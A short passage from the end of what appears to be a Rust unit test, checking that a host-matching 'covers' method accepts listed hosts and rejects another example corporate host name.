            assert!(d.hosts.iter().all(|h| host.to_ascii_lowercase().contains(h.as_str())));
            assert!(!d.covers(Some("another-host.corp.example.eu"), None, d.from));
        }
    }
}
